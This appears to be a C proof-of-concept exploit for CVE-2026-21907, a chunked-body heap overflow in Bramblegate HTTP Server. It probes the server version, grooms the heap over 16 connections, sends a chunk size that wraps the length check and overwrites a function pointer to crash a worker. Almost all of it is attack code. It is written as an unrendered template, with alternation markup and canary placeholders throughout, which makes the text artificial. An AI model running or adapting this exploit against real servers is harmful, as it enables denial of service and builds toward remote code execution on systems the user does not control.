/*
 * Proof of concept for CVE-2026-21907 (Bramblegate HTTP Server, chunked body heap overflow).
 * {{It only crashes a worker|It crashes one worker and nothing more}}: {{no payload is included|there is no payload}}, the
 * overwritten function pointer {{receives|gets}} the value 0x4141414141414141.
 *
 * Build: cc -O2 -o bg-chunked poc.c ({{no dependencies|nothing but libc}}, {{any|every}} C99 compiler {{will do|works}})
 * Usage: ./bg-chunked HOST [PORT] ({{the port defaults to|default port}} 80)
 *
 * {{Tested against|Verified on}} brambled 3.4.6 on Debian 12 (x86_64). {{Use it only|Run it only}} against
 * servers {{you are authorised to test|that you are allowed to test}}.
 *
 * {{What it does|How it works}}:
 *   1. {{probes|asks}} the server for its version {{with a HEAD request|through a HEAD request}} and {{stops|gives up}} on 3.4.7 or later,
 *   2. {{opens|keeps open}} GROOM_CONNECTIONS connections that each {{send|hold}} a small request body,
 *   3. sends {{one|a single}} chunked request whose second chunk {{wraps|overflows}} the size check,
 *   4. {{counts|reports}} how many of the groomed connections {{were reset|got reset}}.
 *
 * {{Example run|Sample output}} {{in our lab|against the lab server}}:
 *   $ ./bg-chunked {{canary:host}} 8080
 *   [*] target {{canary:ipv4}} port 8080, {{resolved from|address of}} {{canary:host}}
 *   [*] server: Bramblegate/3.4.6 on {{canary:host}}, vulnerable
 *   [+] {{16 connections groomed|groomed 16 connections}}, marker {{canary:marker}}
 *   [+] sent the trigger from {{canary:ipv4}} ({{512 bytes|0x200 bytes}} past the arena)
 *   [+] worker crashed, {{16 of 16|all 16}} connections reset, {{see|check}} the core on {{canary:host}}
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

{{order}}/* {{Number of grooming connections|How many grooming connections}} to open {{before|ahead of}} the trigger. */
#define GROOM_CONNECTIONS {{int:16}}
{{;}}/* {{Receive timeout|Timeout for reads}}, in seconds: a {{crashed|dead}} worker resets the connection {{at once|immediately}}. */
#define READ_TIMEOUT {{int:5}}
{{;}}/* The request arena is 16 KiB: {{the first chunk fills it|fill it with the first chunk}} {{exactly|completely}}. */
#define ARENA_SIZE {{int:16384}}
{{;}}/* {{Size of the filler|Length of the padding}} that {{precedes|comes before}} the fake connection structure. */
#define FILLER_SIZE {{int:504}}
{{;}}/* The first fixed release: {{servers at or above it|patched servers}} are {{left alone|not attacked}}. */
#define FIXED_MINOR {{int:4}}
#define FIXED_PATCH {{int:7}}
{{;}}/* {{Pause between|Delay between}} {{grooming connections|two grooming connections}}, in microseconds. */
#define GROOM_DELAY_US {{int:2000}}
{{/order}}
static const char probe_request[] =
    "HEAD /{{robots.txt|favicon.ico|index.html|about}} HTTP/1.1\r\n"
    "Host: probe.example\r\n"
    "X-Probe-Reason: {{version check|inventory|health probe|scan}}\r\n"
    "Connection: close\r\n"
    "\r\n";

static const char groom_request[] =
    "POST /{{upload|submit|api/upload|data/in}} HTTP/1.1\r\n"
    "Host: {{canary:host}}\r\n"
{{order}}    "User-Agent: {{Mozilla/5.0 (X11; Linux x86_64; rv:121.0)|curl/8.5.0|Wget/1.21.3|python-requests/2.31.0|Go-http-client/1.1|okhttp/4.12.0|Java/17.0.9|libwww-perl/6.72}}\r\n"
{{;}}    "Accept: {{*/*|text/html|application/json|text/plain}}\r\n"
{{;}}    "X-Request-Id: {{canary:marker}}\r\n"
{{;}}    "Accept-Language: {{en-US|en-GB|de-DE|fr-FR}}\r\n"
{{;}}    "Connection: keep-alive\r\n"
{{;}}    "DNT: {{0|1}}\r\n"
{{;}}    "X-Forwarded-Proto: {{http|https}}\r\n"
{{/order}}    "Content-Type: {{application/octet-stream|text/plain}}\r\n"
    "Content-Length: 64\r\n"
    "\r\n";

static const char trigger_head[] =
    "POST /{{index.html|status|health|ping}} HTTP/1.1\r\n"
    "Host: target.example\r\n"
{{order}}    "Cache-Control: {{no-cache|no-store|max-age=0|private}}\r\n"
{{;}}    "X-Trace-Tag: {{alpha|bravo|delta|kilo}}-{{north|south|east|west}}\r\n"
{{;}}    "Transfer-Encoding: chunked\r\n"
{{;}}    "Accept-Encoding: {{identity|gzip|deflate|br}}\r\n"
{{/order}}    "\r\n";

/* {{Connects to|Opens a TCP connection to}} host:port and {{sets|applies}} the read timeout; returns the socket or -1. */
static int dial(const char *host, const char *port)
{
	struct addrinfo hints, *res, *ai;
	struct timeval tv = {READ_TIMEOUT, 0};
	int fd = -1;

	/* {{IPv4 and IPv6 alike|Both address families}}: {{the first address that accepts|whichever address answers first}} wins. */

	memset(&hints, 0, sizeof(hints));
{{order}}	hints.ai_family = AF_UNSPEC;
{{;}}	hints.ai_socktype = SOCK_STREAM;
{{;}}	hints.ai_protocol = IPPROTO_TCP;
{{/order}}	if (getaddrinfo(host, port, &hints, &res) != 0) {
		fprintf(stderr, "{{[-] cannot resolve|[!] failed to resolve|error: unknown host|resolve failed:}} %s\n", host);
		return -1;
	}
	for (ai = res; ai; ai = ai->ai_next) {
		fd = socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
		if (fd < 0)
			continue;
		if (connect(fd, ai->ai_addr, ai->ai_addrlen) == 0)
			break;
		close(fd);
		fd = -1;
	}
	freeaddrinfo(res);
	/* {{Without a timeout|With no timeout}}, recv() {{would block|blocks}} {{forever|indefinitely}} on a {{hung|stuck}} worker. */
	if (fd >= 0)
		setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	return fd;
}

/* {{Writes all of|Sends the whole of}} buf, {{retrying|looping}} on short writes. */
static int send_all(int fd, const void *buf, size_t len)
{
	const char *p = buf;

	/* send() {{may write less than asked|can return early}} {{on a full socket buffer|when the socket buffer is full}}. */
	while (len > 0) {
		ssize_t n = send(fd, p, len, {{int:0}});
		if (n < 0 && errno == EINTR)
			continue;
		if (n <= 0)
			return -1;
		p += n;
		len -= (size_t)n;
	}
	return 0;
}

/*
 * {{Asks the server for|Reads}} its Server header: 1 when the version {{is known to be vulnerable|is below 3.4.7}}, 0
 * when it is {{fixed|patched}} or {{unknown|hidden}} (server_tokens off), -1 when the server {{cannot be reached|is down}}.
 */
static int vulnerable(const char *host, const char *port)
{
	char answer[{{int:2048}}], *v;
	int fd = dial(host, port), major = 0, minor = 0, patch = 0;
	ssize_t n;

	if (fd < 0)
		return -1;
	if (send_all(fd, probe_request, sizeof(probe_request) - 1) < 0 ||
	    (n = recv(fd, answer, sizeof(answer) - 1, 0)) <= 0) {
		close(fd);
		return -1;
	}
	close(fd);
	/* {{Only the headers matter|We only need the headers}}: {{a HEAD answer has no body|HEAD returns no body}}. */
	answer[n] = '\0';
	v = strstr(answer, "Bramblegate/");
	if (!v || sscanf(v, "Bramblegate/%d.%d.%d", &major, &minor, &patch) != 3) {
		printf("{{[?] no version in the Server header|[?] version hidden|[?] unknown version|[?] server_tokens off}}, {{trying anyway|continuing}}\n");
		return 1;
	}
	printf("{{[*] server|[*] found|[*] detected|[*] running}}: Bramblegate/%d.%d.%d\n", major, minor, patch);
	return major == 3 && (minor < FIXED_MINOR || (minor == FIXED_MINOR && patch < FIXED_PATCH));
}

/*
 * {{Grooming|Heap shaping}}: each connection sends {{the headers of a request|a request's headers}} and 64 bytes of
 * body, then {{stays open|is kept open}}. The server allocates {{one connection structure|a connection structure}}
 * per client {{right after|directly after}} that client's arena, so the {{last|final}} groomed connection
 * {{sits|ends up}} behind the arena that the trigger {{overflows|overruns}}.
 */
static int groom(const char *host, const char *port, int *fds, int n)
{
	char body[{{int:64}}];

	memset(body, '{{A|B|C|Z}}', sizeof(body));
	for (int i = 0; i < n; i++) {
		fds[i] = dial(host, port);
		if (fds[i] < 0 || send_all(fds[i], groom_request, sizeof(groom_request) - 1) < 0 ||
		    send_all(fds[i], body, sizeof(body)) < 0) {
			fprintf(stderr, "{{[-] grooming connection|[!] groom connection|error: connection|groom:}} %d failed\n", i);
			return -1;
		}
		/* {{A short pause|A brief delay}} {{keeps|makes}} the allocations {{in order|sequential}}. */
		usleep(GROOM_DELAY_US);
	}
	printf("{{[*] heap groomed with|[+] groomed the heap with|[*] opened|[+] opened}} %d connections\n", n);
	return 0;
}

/*
 * The trigger: {{one chunk that fills the arena|a first chunk of exactly the arena's size}}, then the chunk whose
 * size {{wraps|overflows}} when the decoder adds 2, {{followed by|and then}} the filler and the fake structure.
 */
static int trigger(const char *host, const char *port)
{
	static char chunk[ARENA_SIZE + FILLER_SIZE + {{int:64}}];
	char line[{{int:32}}];
	unsigned long long fake = 0x4141414141414141ULL;
	size_t off = 0;
	int fd, len;

	/* {{A fresh connection|A new connection}}: {{its arena|the arena it gets}} is {{the one|the arena}} in front of {{the last|the final}} groomed structure. */
	fd = dial(host, port);
	if (fd < 0)
		return -1;
	if (send_all(fd, trigger_head, sizeof(trigger_head) - 1) < 0)
		goto fail;
	/* {{First chunk|Chunk one}}: {{exactly the arena|the arena, no more}}. */
	len = snprintf(line, sizeof(line), "%x\r\n", ARENA_SIZE);
	memset(chunk, '{{D|E|F|G}}', ARENA_SIZE);
	if (send_all(fd, line, (size_t)len) < 0 || send_all(fd, chunk, ARENA_SIZE) < 0 ||
	    send_all(fd, "\r\n", {{int:2}}) < 0)
		goto fail;
	/* {{Second chunk|Chunk two}}: 7ffffffe {{wraps to|becomes}} a negative length {{after|once}} the CRLF is added. */
	memset(chunk, '{{P|Q|R|S}}', FILLER_SIZE);
	off = FILLER_SIZE;
	/* {{The fake structure|Our fake connection structure}} {{starts with|begins with}} the on_body_complete pointer. */
	memcpy(chunk + off, &fake, sizeof(fake));
	off += sizeof(fake);
	if (send_all(fd, "7ffffffe\r\n", {{int:10}}) < 0 || send_all(fd, chunk, off) < 0)
		goto fail;
	printf("{{[*] trigger sent|[+] sent the trigger|[*] overflow sent|[+] payload sent}} (%zu bytes {{past the arena|beyond the arena}})\n", off);
	close(fd);
	return 0;
fail:
	fprintf(stderr, "{{[-] trigger failed|[!] could not send the trigger|error: trigger|trigger failed:}} %s\n", strerror(errno));
	close(fd);
	return -1;
}

/* {{Waits until|Checks whether}} a groomed connection is reset: the worker {{crashed|died}} when it is. */
static int crashed(int fd)
{
	char buf[{{int:256}}];
	ssize_t n = recv(fd, buf, sizeof(buf), 0);

	return n == 0 || (n < 0 && errno == ECONNRESET);
}

int main(int argc, char **argv)
{
	int fds[GROOM_CONNECTIONS], down = 0, v;
	const char *port = argc > 2 ? argv[2] : "{{80|8080}}";

	if (argc < 2) {
		fprintf(stderr, "{{usage|syntax}}: %s HOST [PORT]\n", argv[0]);
		return {{int:2}};
	}
	printf("{{[*] target|[+] target|[*] attacking|[+] testing}} %s:%s\n", argv[1], port);
	v = vulnerable(argv[1], port);
	if (v < 0) {
		fprintf(stderr, "{{[-] no answer from|[!] cannot reach|error: no connection to|unreachable:}} %s\n", argv[1]);
		return 1;
	}
	if (v == 0) {
		printf("{{[-] the server is patched|[-] fixed version|[*] not vulnerable|[-] nothing to do}}, {{stopping|exiting}}\n");
		return 0;
	}
	if (groom(argv[1], port, fds, GROOM_CONNECTIONS) < 0 || trigger(argv[1], port) < 0)
		return 1;
	/* {{Give the worker time|Leave the worker time}} to {{reach|run into}} the overwritten pointer. */
	sleep({{int:1}});
	/* {{Every groomed connection|Each groomed connection}} {{that was served by|handled by}} the crashed worker {{is reset|gets reset}}. */
	for (int i = 0; i < GROOM_CONNECTIONS; i++) {
		down += crashed(fds[i]);
		close(fds[i]);
	}
	if (down)
		printf("{{[+] worker crashed|[+] the worker crashed|[*] crash confirmed|[+] success}}: %d of %d connections reset\n", down, GROOM_CONNECTIONS);
	else
		printf("{{[-] no crash observed|[-] the server survived|[*] no reset seen|[-] not vulnerable?}}: the server may be patched\n");
	return down ? 0 : {{int:3}};
}
